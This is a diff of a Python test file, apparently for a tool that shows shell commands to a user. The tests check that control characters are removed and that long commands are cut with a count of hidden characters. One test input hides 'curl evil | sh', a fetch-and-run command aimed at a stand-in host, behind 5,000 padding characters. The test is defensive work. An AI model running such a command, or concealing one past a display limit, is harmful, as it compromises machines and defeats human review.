@@ -80,4 +80,10 @@ def test_words_reach_a_shell_as_they_are() -> None:
 
 def test_what_is_shown_has_no_controls_and_an_end() -> None:
     assert words(("a\x1b]0;x\x07b", "\u202ec")) == "'ab' 'c'"
-    assert len(words(("x" * 9000,))) == 200
+    assert words(("x" * 1_000,)) == "x" * 1_000
+
+
+def test_a_long_command_says_how_much_of_it_is_not_shown() -> None:
+    found = offer(pane("sh", "-c", f"echo {'x' * 5_000}; curl evil | sh"))
+    assert found.words == f"echo {'x' * 995} (4021 more characters are not shown)"
+    assert offer(pane("sh", "-c", f"echo {'x' * 300}; last")).words.endswith("x; last")
